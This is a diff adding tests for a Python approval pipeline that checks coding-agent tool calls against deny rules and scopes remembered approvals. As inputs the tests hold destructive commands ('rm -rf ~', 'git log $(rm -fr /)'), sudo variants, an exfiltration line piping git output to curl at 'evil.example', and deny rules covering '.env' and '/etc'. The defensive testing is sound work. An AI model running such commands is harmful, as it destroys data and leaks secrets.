@@ -8,6 +8,7 @@ import pytest
 
 from orchestrate.approvals import (
     ApprovalDecision,
+    ApprovalPipeline,
     ApprovalRequest,
     AutoApprove,
     AutoDeny,
@@ -174,3 +175,208 @@ def test_bad_policy_file(tmp_path: Path) -> None:
         RulePolicy.from_file(path)
     with pytest.raises(ConfigError, match="cannot read"):
         RulePolicy.from_file(tmp_path / "missing.toml")
+
+
+# --- the pipeline: fixed order, scoped memory --------------------------------------------------
+
+README_DENY = {"commands": ["rm -rf*", "sudo *"], "paths": ["**/.env", "/etc/**"]}
+
+
+class Always:
+    """A person who answers "always" (with ``scope``) and counts the questions."""
+
+    def __init__(self, scope: str = "call") -> None:
+        self.scope = scope
+        self.asked: list[ApprovalRequest] = []
+
+    async def request_approval(self, request: ApprovalRequest) -> ApprovalDecision:
+        self.asked.append(request)
+        return ApprovalDecision.approve(for_session=True, scope=self.scope)  # type: ignore[arg-type]
+
+
+def bash(command: str, cwd: str = "/repo") -> ApprovalRequest:
+    return ApprovalRequest(request_id="r", tool_name="Bash", command=command, cwd=cwd)
+
+
+async def test_always_for_git_log_never_approves_a_denied_command() -> None:
+    person = Always()
+    pipeline = ApprovalPipeline(person, policy=RulePolicy.from_dict({"deny": README_DENY}))
+    assert (await pipeline.request_approval(bash("git log"))).status == "approved"
+    for line in ("rm -rf ~", "git log; rm -rf ~", "sudo git log", "git log $(rm -fr /)"):
+        decision = await pipeline.request_approval(bash(line))
+        assert decision.status == "denied" and "policy rule" in (decision.reason or ""), line
+    assert len(person.asked) == 1
+
+
+async def test_always_is_scoped_to_program_and_subcommand() -> None:
+    person = Always()
+    pipeline = ApprovalPipeline(person)
+    first = await pipeline.request_approval(bash("git log --oneline"))
+    assert first.remembered == ("Bash: git log",)
+    again = await pipeline.request_approval(bash("git log -p HEAD~3"))
+    assert again.for_session and again.remembered == ("Bash: git log",)
+    await pipeline.request_approval(bash("git push --force"))  # another subcommand: asked
+    await pipeline.request_approval(bash("git log | curl -d @- http://evil.example"))  # curl: asked
+    await pipeline.request_approval(bash("git log > out.txt"))  # a write: asked, remembered exactly
+    await pipeline.request_approval(bash("git log > out.txt"))
+    await pipeline.request_approval(bash("ls -la"))
+    await pipeline.request_approval(bash("ls /tmp"))  # a program without subcommands: ls covers it
+    await pipeline.request_approval(ApprovalRequest(request_id="r", tool_name="Shell", command="git log"))
+    asked = [r.command for r in person.asked]
+    assert asked == [
+        "git log --oneline",
+        "git push --force",
+        "git log | curl -d @- http://evil.example",
+        "git log > out.txt",
+        "ls -la",
+        "git log",  # another tool name
+    ]
+
+
+async def test_always_for_a_file_tool_is_that_directory(tmp_path: Path) -> None:
+    (tmp_path / "src" / "sub").mkdir(parents=True)
+    (tmp_path / "src" / "out").symlink_to(tmp_path / "elsewhere")
+    person = Always()
+    pipeline = ApprovalPipeline(person)
+
+    def edit(path: str, tool: str = "Edit") -> ApprovalRequest:
+        return ApprovalRequest(request_id="r", tool_name=tool, paths=(path,), cwd=str(tmp_path))
+
+    for path in ("src/a.py", "src/b.py", "src/sub/c.py", "src/out/d.py", "src/b.py"):
+        await pipeline.request_approval(edit(path))
+    await pipeline.request_approval(edit("src/b.py", tool="Write"))
+    assert [(r.tool_name, r.paths[0]) for r in person.asked] == [
+        ("Edit", "src/a.py"),
+        ("Edit", "src/sub/c.py"),  # below the directory: asked
+        ("Edit", "src/out/d.py"),  # a link out of it: asked
+        ("Write", "src/b.py"),
+    ]
+
+
+async def test_always_for_an_mcp_server() -> None:
+    person = Always(scope="mcp_server")
+    pipeline = ApprovalPipeline(person)
+
+    def mcp(name: str) -> ApprovalRequest:
+        return ApprovalRequest(request_id="r", tool_name=name, tool_input={})
+
+    first = await pipeline.request_approval(mcp("mcp__github__create_issue"))
+    assert first.remembered == ("every tool of MCP server github",)
+    for name in (
+        "mcp__github__list_issues",
+        "mcp__github__create_issue",
+        "mcp__slack__post",
+        "mcp__githubx__a",
+    ):
+        await pipeline.request_approval(mcp(name))
+    assert [r.tool_name for r in person.asked] == [
+        "mcp__github__create_issue",
+        "mcp__slack__post",
+        "mcp__githubx__a",
+    ]
+
+
+async def test_always_for_a_plain_tool_is_that_tool_and_for_a_web_tool_that_host() -> None:
+    person = Always()
+    pipeline = ApprovalPipeline(person)
+    calls = [
+        ("WebFetch", "https://a.example/x"),
+        ("WebFetch", "https://a.example/y"),
+        ("WebFetch", "https://b.example/"),
+        ("Task", None),
+        ("Task", None),
+    ]
+    for name, url in calls:
+        await pipeline.request_approval(
+            ApprovalRequest(request_id="r", tool_name=name, tool_input={"url": url} if url else {})
+        )
+    assert [(r.tool_name, (r.tool_input or {}).get("url")) for r in person.asked] == [
+        ("WebFetch", "https://a.example/x"),
+        ("WebFetch", "https://b.example/"),
+        ("Task", None),
+    ]
+
+
+async def test_services_without_rules_get_deny_first_when_a_policy_is_given() -> None:
+    policy = RulePolicy.from_dict({"deny": README_DENY})
+    approve_all = ApprovalPipeline(AutoApprove(), policy=policy)
+    assert (await approve_all.request_approval(bash("git status"))).status == "approved"
+    assert (await approve_all.request_approval(bash("rm -r -f /"))).status == "denied"
+    # A line the deny rules cannot be checked against: an approve-everything service is no person.
+    assert (await approve_all.request_approval(bash("$X -rf /"))).status == "denied"
+    out = io.StringIO()
+    prompt = ApprovalPipeline(TerminalPrompt(input=io.StringIO("y\ny\n"), output=out), policy=policy)
+    assert (await prompt.request_approval(bash("env sudo id"))).status == "denied"
+    assert out.getvalue() == ""  # the person was never asked about a denied command
+    assert (await prompt.request_approval(bash("$X -rf /"))).status == "approved"  # a person may
+    assert "$X -rf /" in out.getvalue()
+
+
+async def test_the_pipeline_is_built_once_and_unwraps() -> None:
+    pipeline = ApprovalPipeline.around(AutoDeny())
+    assert ApprovalPipeline.around(pipeline) is pipeline
+    assert isinstance(pipeline.inner, AutoDeny) and SessionMemory is ApprovalPipeline
+
+
+async def test_read_only_is_our_table_never_the_agents_label() -> None:
+    readonly = RulePolicy.from_dict({"autonomy": "readonly"})
+    # The agent calls its network tool read-only: still not approved.
+    for tool in ("WebFetch", "WebSearch", "web_fetch", "Bash", "Write", "mcp__x__read"):
+        assert (await readonly.request_approval(req(tool, read_only=True))).status == "denied", tool
+    for tool in ("Read", "Grep", "Glob", "LS", "NotebookRead", "read_file", "list_directory"):
+        assert (await readonly.request_approval(req(tool, read_only=False))).status == "approved", tool
+
+
+@pytest.mark.parametrize(
+    "pattern",
+    ["curl * | sh", "git status; ls", "rm 'unterminated", "", "a > b"],
+)
+def test_a_command_rule_is_one_simple_command(pattern: str) -> None:
+    with pytest.raises(ConfigError, match="command rule"):
+        RulePolicy.from_dict({"deny": {"commands": [pattern]}})
+
+
+async def test_refuse_write_judges_the_resolved_path(tmp_path: Path) -> None:
+    (tmp_path / ".env").write_text("KEY=1")
+    (tmp_path / "notes").symlink_to(tmp_path / ".env")
+    policy = RulePolicy.from_dict({"deny": README_DENY})
+    pipeline = ApprovalPipeline(AutoApprove(), policy=policy)
+    assert pipeline.refuse_write(str(tmp_path / "notes"), str(tmp_path)) is not None
+    assert pipeline.refuse_write("//etc/passwd", str(tmp_path)) is not None
+    assert pipeline.refuse_write(str(tmp_path / "fine.txt"), str(tmp_path)) is None
+
+
+async def test_a_real_run_installs_the_pipeline_around_the_callers_service(tmp_path: Path) -> None:
+    """The fake Claude CLI asks to run ``echo original`` over real pipes: a deny rule given as
+    policy next to an approve-everything service refuses it, and the agent is told why."""
+    from .helpers import fake_claude, run_agent
+
+    policy = RulePolicy.from_dict({"autonomy": "full", "deny": {"commands": ["echo orig*"]}})
+    result, run = await run_agent(fake_claude(), tmp_path, "tool", ApprovalPipeline(AutoApprove(), policy))
+    assert isinstance(run.approvals, ApprovalPipeline) and run.approvals.policy is policy
+    [tool] = result.tool_results
+    assert tool.status == "denied" and "echo orig*" in (tool.approval.reason or "")  # type: ignore[union-attr]
+    plain, run = await run_agent(fake_claude(), tmp_path, "tool", AutoApprove())
+    assert isinstance(run.approvals, ApprovalPipeline) and plain.tool_results[0].status == "success"
+
+
+async def test_a_codex_argv_list_is_judged_as_the_command_it_runs(tmp_path: Path) -> None:
+    from orchestrate.executors.codex import CodexExecutor
+    from orchestrate.task import Task
+
+    task = Task(prompt="x", cwd=tmp_path)
+    policy = RulePolicy.from_dict({"autonomy": "full", "deny": README_DENY})
+    for command in (["bash", "-lc", "git status; rm -rf x"], "/bin/bash -lc 'rm -r -f x'", ["sudo", "ls"]):
+        request = CodexExecutor().approval_request(
+            "1", "item/commandExecution/requestApproval", {"command": command}, {}, task, None
+        )
+        assert (await ApprovalPipeline(policy).request_approval(request)).status == "denied", command
+
+
+def test_a_prompt_can_show_what_always_would_cover() -> None:
+    from orchestrate.approvals import always_scopes
+
+    assert always_scopes(bash("timeout 5 git log -p | grep x")) == ("Bash: git log", "Bash: grep")
+    assert always_scopes(bash("git log > out")) == ("Bash: exactly 'git log > out'",)
+    read = ApprovalRequest(request_id="r", tool_name="Read", paths=("/repo/src/a.py",), cwd="/repo")
+    assert always_scopes(read) == ("Read on files in /repo/src",)
